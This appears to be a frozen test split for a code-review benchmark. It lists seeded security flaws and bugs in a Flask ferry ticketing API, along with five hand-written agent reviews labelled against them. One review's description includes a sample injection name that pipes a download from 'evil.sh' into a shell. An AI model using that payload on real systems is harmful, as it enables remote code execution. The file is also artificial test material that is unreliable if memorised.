"""test22/py-ferrydesk: a ferry ticketing API (Python, Flask + SQLite). Frozen test split; labels next to each finding.

Written 2026-12-02 by a helper session that had not seen the merger code, its results, its tuning data or any
other split's answers, specs or repositories (only specs/tune2__py_snapctl.py, for the format).
"""

from build_answers import Answer, Block, F, P, U

LANGUAGE = "python"
ABOUT = (
    "Written 2026-12-02 by a helper session that had not seen the merger code, its results or other splits' data. "
    "Frozen test split (test22): seeded problems in a small ferry ticketing API; five agents' answers written by hand."
)

A = "ferrydesk/app.py"
PROBLEMS = {
    "OPS-TOKEN-EMPTY": P(A, "if token != OPS_TOKEN:", "security", "OPS_TOKEN defaults to empty: a request without X-Ops-Token passes the ops check"),
    "OPS-TOKEN-TIMING": P(A, "if token != OPS_TOKEN:", "security", "ops token compared with != (not constant time)"),
    "PAGE-OFFSET": P(A, "offset = page * PAGE_SIZE", "bug", "pages are 1-based but offset = page * size: the first page of sailings is never returned", "off-by-one"),
    "SQLI-ROUTE": P(A, "WHERE route = '{route}' ORDER BY {order}\"", "security", "route query value formatted into the SQL", "source-vs-sink"),
    "SQLI-SORT": P(A, "WHERE route = '{route}' ORDER BY {order}\"", "security", "sort query value formatted into ORDER BY", "source-vs-sink"),
    "CHILD-FARE-BOUNDS": P(A, "if 4 < age < 12:", "bug", "half fare is for ages 4 to 12 inclusive but 4 < age < 12 charges 4- and 12-year-olds the adult fare", "off-by-one"),
    "REF-PREDICTABLE": P(A, "hashlib.md5(str(time.time())", "security", "booking reference derived from the clock: guessable (and it is the only credential for passes, payment, cancel)"),
    "BOOK-AGE-TRUSTED": P(A, 'total = sum(fare_for(sailing["route"], p["age"])', "security", "passenger ages come from the client unchecked: declare everyone under 4 and travel free"),
    "BOOK-OVERSELL": P(A, 'if sailing["sold"] + len(passengers) > sailing["capacity"]:', "bug", "capacity check and sold update are separate, unlocked statements: concurrent bookings oversell and lose updates", "critical-section"),
    "DECK-LANE-ZERO": P(A, "for lane in range(1, VEHICLE_LANES):", "bug", "lane loop starts at 1: lane 0 of the vehicle deck is never used", "off-by-one"),
    "DECK-RACE": P(A, "lanes[lane] += length_m", "bug", "deck allocation reads and updates shared lane totals without _deck_lock: two cars get the same space", "critical-section"),
    "VEHICLE-LENGTH-UNCHECKED": P(A, 'length = float(body.get("length_m", 4.5))', "bug", "vehicle length not validated: negative or NaN length frees or corrupts deck space"),
    "PASS-HTML-INJECTION": P(A, "html = f\"<h1>{booking['lead_name']}</h1>", "security", "lead name placed unescaped into the HTML that wkhtmltopdf renders (extra, one agent)"),
    "PASS-CMD-INJECTION": P(A, "subprocess.run(f\"echo '{html}' | wkhtmltopdf", "security", "lead name (and the HTML) interpolated into a shell command line", "signature-vs-statement"),
    "PASS-RENDER-UNCHECKED": P(A, "subprocess.run(f\"echo '{html}' | wkhtmltopdf", "bug", "wkhtmltopdf exit status ignored: a failed render returns a path to a missing/partial PDF"),
    "PASS-NO-AUTH": P(A, "def boarding_pass():", "security", "boarding passes served to anyone who presents a reference, no authentication"),
    "PASS-TRAVERSAL": P(A, 'path = os.path.join(PASS_DIR, ref + ".pdf")', "security", "ref query value joined into a file path: ../ reads other files", "source-vs-sink"),
    "MANIFEST-NOAUTH": P(A, "p.passport_no, p.age FROM bookings b", "security", "manifest endpoint has no require_ops: passport numbers and emails of all passengers exposed", "signature-vs-statement"),
    "PAY-KEY-LOGGED": P(A, 'log.info("charging %s: %s pence with key %s"', "security", "payment API key written to the log"),
    "PAY-NO-TIMEOUT": P(A, 'resp = requests.post(f"{PAYMENT_URL}/charges"', "bug", "payment call without a timeout can hang the worker"),
    "PAY-DOUBLE-CHARGE": P(A, 'charge_id = charge(ref, int(booking["total"] * 100))', "bug", "status not checked before charging: paying twice charges twice"),
    "PAY-PENCE-TRUNCATION": P(A, 'charge_id = charge(ref, int(booking["total"] * 100))', "bug", "float total * 100 truncated by int(): amounts such as 9.75*3 lose a penny"),
    "REFUND-AFTER-DEPARTURE": P(A, 'refund = booking["total"] if hours_left > 24', "bug", "negative hours_left (after departure) still gets a half refund"),
    "REFUND-STATUS-UNCHECKED": P(A, 'requests.post(f"{PAYMENT_URL}/refunds"', "bug", "cancel does not check status: unpaid or already cancelled bookings are refunded (again)"),
    "CANCEL-SEATS-KEPT": P(A, "\"UPDATE bookings SET status = 'cancelled' WHERE ref = ?\"", "bug", "cancelling never gives the seats back (sold not decremented)"),
    "DEBUG-MODE": P(A, 'app.run(host="0.0.0.0", port=8080, debug=True)', "security", "Werkzeug debugger enabled on all interfaces"),
}

CONFUSABLE = [
    ("OPS-TOKEN-EMPTY", "OPS-TOKEN-TIMING"),
    ("SQLI-ROUTE", "SQLI-SORT"),
    ("BOOK-AGE-TRUSTED", "BOOK-OVERSELL"),
    ("DECK-LANE-ZERO", "DECK-RACE"),
    ("PASS-CMD-INJECTION", "PASS-RENDER-UNCHECKED"),
    ("PASS-HTML-INJECTION", "PASS-CMD-INJECTION"),
    ("PASS-NO-AUTH", "PASS-TRAVERSAL"),
    ("PAY-KEY-LOGGED", "PAY-NO-TIMEOUT"),
    ("PAY-DOUBLE-CHARGE", "PAY-PENCE-TRUNCATION"),
    ("REFUND-AFTER-DEPARTURE", "REFUND-STATUS-UNCHECKED"),
    ("REFUND-STATUS-UNCHECKED", "CANCEL-SEATS-KEPT"),
]

ANSWERS = {
    "claude": Answer("claude", "rel", [
        """
        ## Review

        `ferrydesk/app.py` is a single Flask module covering sailings, bookings, vehicle deck space, boarding
        passes, payments and cancellations. The most serious problems are injection in the sailing search and the
        boarding-pass renderer, and an unauthenticated passenger manifest.

        | Priority | Area | Issue |
        |---|---|---|
        | P0 | `/sailings` | SQL built with f-strings from `route` and `sort` |
        | P0 | `render_pass` | shell command built from the passenger's name |
        | P0 | `/sailings/<id>/manifest` | no authentication, passport numbers returned |
        | P1 | `/passes` | path traversal via `ref` |
        | P1 | `create_booking`, `allocate_lane` | check-then-write races on seats and deck space |
        | P2 | payments / refunds | double charge, refunds after departure |

        I have not run the app; the schema is inferred from the queries.
        """,
        Block([
            F("SQLI-ROUTE", "critical", "security", "SQL injection through the `route` filter in `list_sailings`",
              "Bind `route` as a parameter (`WHERE route = ?`).", symbol="list_sailings", conf=0.95),
            F("SQLI-SORT", "high", "security", "`sort` is interpolated into `ORDER BY` unchecked",
              "Map `sort` through an allow-list of column names; placeholders cannot bind identifiers.",
              symbol="list_sailings", conf=0.9),
            F("PASS-CMD-INJECTION", "critical", "security", "Shell command injection when rendering a boarding pass",
              "Call `subprocess.run([\"wkhtmltopdf\", \"--title\", name, \"-\", out], input=html, check=True)` without a shell.",
              symbol="render_pass", conf=0.9),
            F("MANIFEST-NOAUTH", "high", "security", "Passenger manifest (passport numbers) is readable without authentication",
              "Call `require_ops()` at the top of `manifest`, as the `/ops/...` endpoints do.",
              d=-2, symbol="manifest", conf=0.9),
            F("PASS-TRAVERSAL", "high", "security", "`/passes?ref=` can read files outside `PASS_DIR`",
              "Validate `ref` against `^[A-F0-9]{8}$` before building the path.", symbol="boarding_pass", conf=0.85),
            F("OPS-TOKEN-EMPTY", "high", "security", "Ops endpoints are open when `OPS_TOKEN` is not configured",
              "Refuse to start (or deny every ops request) when `OPS_TOKEN` is empty.", symbol="require_ops", conf=0.8),
            F("BOOK-OVERSELL", "high", "bug", "Seat availability check races with the `sold` update",
              "Do it in one statement: `UPDATE sailings SET sold = sold + ? WHERE id = ? AND sold + ? <= capacity` and check `rowcount`.",
              n=3, symbol="create_booking", conf=0.85),
            F("DECK-RACE", "medium", "bug", "`allocate_lane` mutates `_deck_used` without taking `_deck_lock`",
              "Wrap the lookup and the update in `with _deck_lock:`; the lock is declared but never used.",
              d=-1, n=2, symbol="allocate_lane", conf=0.8),
            F("DECK-LANE-ZERO", "medium", "bug", "Lane 0 is never allocated",
              "Iterate `range(VEHICLE_LANES)`; today the deck holds one lane fewer than configured.",
              symbol="allocate_lane", conf=0.8),
            F("CHILD-FARE-BOUNDS", "medium", "bug", "Child fare excludes 4- and 12-year-olds",
              "The comment says 4 to 12 inclusive: use `4 <= age <= 12` (the `age < 4` branch already handles infants).",
              symbol="fare_for", conf=0.85),
            F("PAY-DOUBLE-CHARGE", "medium", "bug", "Paying an already paid booking charges the card again",
              "Return 409 unless `status == 'held'`, and send an idempotency key to the payment API.",
              symbol="pay", conf=0.75),
            F("PAY-PENCE-TRUNCATION", "low", "bug", "`int(total * 100)` can undercharge by a penny",
              "Use `round(total * 100)`, or better keep prices in integer pence throughout.", symbol="pay", conf=0.7),
            F("REFUND-AFTER-DEPARTURE", "medium", "bug", "Cancelling after departure still refunds half the fare",
              "Reject cancellation when `hours_left <= 0`.", symbol="cancel", conf=0.75),
            F("REFUND-STATUS-UNCHECKED", "medium", "bug", "Cancel refunds unpaid or already-cancelled bookings",
              "Only refund when `status == 'paid'`; make cancel idempotent.", d=-1, n=2, symbol="cancel", conf=0.7),
            F("PAY-KEY-LOGGED", "medium", "security", "Payment API key is logged on every charge",
              "Drop the key from the log line.", symbol="charge", conf=0.85),
            F("DEBUG-MODE", "low", "security", "Debug server bound to 0.0.0.0",
              "Never ship `debug=True`; run under gunicorn.", conf=0.6),
        ]),
    ]),
    "codex": Answer("codex", "rel", [
        "Reviewed ferrydesk/app.py (231 lines); 13 findings, most severe first.",
        Block([
            F("SQLI-ROUTE", "critical", "security", "SQL injection: route query param -> f-string SQL", "Use ? placeholders.", d=-3),
            F("SQLI-SORT", "high", "security", "ORDER BY built from ?sort=", "Allow-list the sort column.", d=-2),
            F("PASS-CMD-INJECTION", "critical", "security", "render_pass: shell=True with lead_name in the command", "argv list, no shell.", d=-3),
            F("PASS-TRAVERSAL", "high", "security", "Path traversal: ref from the query string joined to PASS_DIR", "Reject non-hex refs.", d=-1),
            F("REF-PREDICTABLE", "high", "security", "Booking refs are md5(time.time())[:8]: enumerable", "secrets.token_hex; refs are the only credential here.", d=-1),
            F("MANIFEST-NOAUTH", "high", "security", "manifest() lacks require_ops()", "Add the ops check.", d=-2),
            F("BOOK-OVERSELL", "high", "bug", "Lost update on sailings.sold (read-modify-write)", "sold = sold + ? in SQL with a capacity guard.", d=2),
            F("DECK-RACE", "medium", "bug", "_deck_lock is never acquired", "Hold it in allocate_lane.", d=-3),
            F("PAGE-OFFSET", "medium", "bug", "page=1 skips the first PAGE_SIZE rows", "(page - 1) * PAGE_SIZE."),
            F("BOOK-AGE-TRUSTED", "medium", "security", "Fares priced from self-declared ages (age 0 -> free)", "Validate ages; limit free infants per adult."),
            F("PAY-PENCE-TRUNCATION", "medium", "bug", "int(total * 100) truncates (e.g. 29.25 -> 2924)", "round(), or store pence as int."),
            F("REFUND-STATUS-UNCHECKED", "medium", "bug", "cancel() refunds regardless of booking status", "Check status == 'paid'."),
            F("PAY-NO-TIMEOUT", "low", "bug", "requests.post to /charges has no timeout", "timeout=10."),
        ], wrap="object", fence=None, indent=None),
    ]),
    "gemini": Answer("gemini", "abs", [
        """
        Of course! I've completed a thorough review of the `ferrydesk` application. This is a Flask service for
        ferry ticketing. Overall the structure is easy to follow, but there are several security vulnerabilities
        and business-logic errors that should be addressed before this goes to production.

        ### Security Vulnerabilities

        The most pressing issues involve untrusted input reaching SQL, the shell and the filesystem.
        """,
        Block([
            F("SQLI-ROUTE", "critical", "SQL Injection", "SQL Injection in Sailing Search",
              "Use parameterized queries for all user-supplied values.", d=-1, sd=-1, n=2,
              desc="The `route` and `sort` parameters are concatenated into the query string. An attacker can read the `passengers` table with a UNION."),
            F("PASS-CMD-INJECTION", "critical", "Command Injection", "Command Injection in Boarding Pass Generation",
              "Avoid `shell=True` and pass arguments as a list.",
              desc="A lead passenger named `x'; curl evil.sh | sh; '` executes commands on the server when the pass is rendered."),
            F("PASS-TRAVERSAL", "high", "Path Traversal", "Arbitrary File Read via Boarding Pass Reference",
              "Validate the reference format.", d=-1),
            F("PASS-NO-AUTH", "high", "Broken Access Control", "Boarding Passes Accessible Without Authentication",
              "Require the booking email or a signed token to download a pass."),
            F("MANIFEST-NOAUTH", "high", "Sensitive Data Exposure", "Passport Numbers Exposed via Manifest Endpoint",
              "Protect the endpoint with `require_ops()`.", d=-1,
              desc="Anyone can iterate over sailing IDs and download names, emails and passport numbers of every passenger."),
            F("OPS-TOKEN-TIMING", "medium", "Timing Attack", "Non-Constant-Time Token Comparison",
              "Use `hmac.compare_digest`."),
            F("DEBUG-MODE", "high", "Security Misconfiguration", "Debug Mode Enabled in Production",
              "Disable debug mode."),
        ], wrap="list"),
        """
        ### Business Logic and Reliability

        Beyond security, the booking flow has several correctness issues that will cost the operator money.
        """,
        Block([
            F("BOOK-OVERSELL", "major", "Race Condition", "Race Condition Allows Overbooking",
              "Use a transaction with `BEGIN IMMEDIATE` or an atomic conditional update.", d=2,
              desc="Two concurrent requests can both read the same `sold` value and both succeed, selling more seats than the vessel's capacity."),
            F("CHILD-FARE-BOUNDS", "major", "Business Logic", "Incorrect Age Range for Child Fare",
              "Use inclusive comparisons.", d=1, sd=0, n=2),
            U({"severity": "info", "category": "Maintainability", "description": "Consider splitting app.py into blueprints."}),
            F("DECK-LANE-ZERO", "minor", "Business Logic", "First Vehicle Lane Is Skipped",
              "Start the range at 0."),
            F("REFUND-AFTER-DEPARTURE", "major", "Business Logic", "Refunds Issued After Departure",
              "Disallow cancellation once the sailing has departed.", d=-1),
            F("CANCEL-SEATS-KEPT", "minor", "Business Logic", "Cancelled Seats Are Not Released",
              "Decrement `sold` when a booking is cancelled."),
            F("VEHICLE-LENGTH-UNCHECKED", "minor", "Input Validation", "Vehicle Length Is Not Validated",
              "Reject non-positive or unrealistic lengths.",
              desc="A negative `length_m` reduces the used space of a lane, letting more vehicles on than fit."),
            F("PAY-NO-TIMEOUT", "minor", "Reliability", "Missing Timeout on Payment Request",
              "Pass `timeout=` to `requests.post`."),
        ], wrap="list"),
    ]),
    "opencode": Answer("opencode", "dot", [
        "security:",
        Block([
            F("SQLI-SORT", "high", "security", "sql injection via sort param", "whitelist columns"),
            F("PASS-CMD-INJECTION", "high", "security", "shell injection in render_pass", "no shell=True"),
            F("PASS-HTML-INJECTION", "medium", "security", "lead_name unescaped into pass html (wkhtmltopdf can read local files)", "html.escape()"),
            F("BOOK-AGE-TRUSTED", "medium", "security", "ages are client-supplied, infants travel free", "verify ages at check-in / cap infants per adult"),
            F("MANIFEST-NOAUTH", "high", "security", "manifest endpoint is public (names, emails, passports)", "require_ops()", d=-1),
        ], wrap="list", fence=None, indent=None),
        "other:",
        Block([
            F("DECK-RACE", "medium", "", "deck lanes updated without the lock", "with _deck_lock", d=-1),
            F("VEHICLE-LENGTH-UNCHECKED", "medium", "bug", "negative length_m frees deck space", "validate 0 < length <= 20"),
            F("PASS-RENDER-UNCHECKED", "low", "bug", "wkhtmltopdf failure ignored", "check=True"),
        ], wrap="list", fence=None, indent=None),
    ]),
    "qwen": Answer("qwen", "rel", [
        """
        # Code Review Report

        ## Summary
        1. SQL injection in the sailing list.
        2. Missing authorization on the manifest.
        3. Concurrency problems in seat and deck allocation.
        4. Off-by-one errors in paging, fares and lanes.
        5. Payment and refund handling errors.
        """,
        Block([
            F("SQLI-ROUTE", "blocker", "security", "Unparameterized SQL query in list_sailings",
              "Use bound parameters.", conf=0.9),
            F("MANIFEST-NOAUTH", "blocker", "security", "Missing authorization check on manifest endpoint",
              "Require ops token.", d=-3, conf=0.9),
            F("OPS-TOKEN-EMPTY", "major", "security", "Empty default OPS_TOKEN disables authentication",
              "Fail when OPS_TOKEN is unset.", d=-1, conf=0.8),
            F("BOOK-OVERSELL", "major", "concurrency", "Non-atomic capacity check and update in create_booking",
              "Use an atomic UPDATE with a WHERE guard.", conf=0.8),
            F("DECK-RACE", "major", "concurrency", "Unused lock in allocate_lane leads to double allocation",
              "Acquire _deck_lock.", conf=0.8),
            F("DECK-LANE-ZERO", "minor", "correctness", "Off-by-one: lane index starts at 1",
              "Use range(VEHICLE_LANES).", d=1, conf=0.7),
            F("PAGE-OFFSET", "minor", "correctness", "Pagination offset skips the first page",
              "Subtract one from page.", d=-1, conf=0.8),
            F("CHILD-FARE-BOUNDS", "minor", "correctness", "Child fare boundaries exclude ages 4 and 12",
              "Use <= comparisons.", conf=0.8),
            F("PASS-CMD-INJECTION", "blocker", "security", "OS command injection in render_pass",
              "Pass an argument list and avoid shell=True.", d=-3, conf=0.85),
            F("PASS-TRAVERSAL", "major", "security", "Unvalidated ref used to build file path", "Validate ref format.", d=-1, conf=0.8),
            F("REF-PREDICTABLE", "major", "security", "Weak booking reference generation (MD5 of timestamp)",
              "Use the secrets module.", conf=0.75),
            F("PAY-DOUBLE-CHARGE", "major", "correctness", "Booking can be charged multiple times",
              "Check booking status before charging.", conf=0.7),
            F("PAY-KEY-LOGGED", "major", "security", "Secret key logged in plaintext", "Remove the key from logs.", conf=0.8),
            F("CANCEL-SEATS-KEPT", "minor", "data-integrity", "Seat count not restored on cancellation",
              "Decrement sold.", d=-1, sd=0, conf=0.6),
        ], wrap="object+summary", summary="14 issues: 3 blocker, 7 major, 4 minor"),
    ]),
}
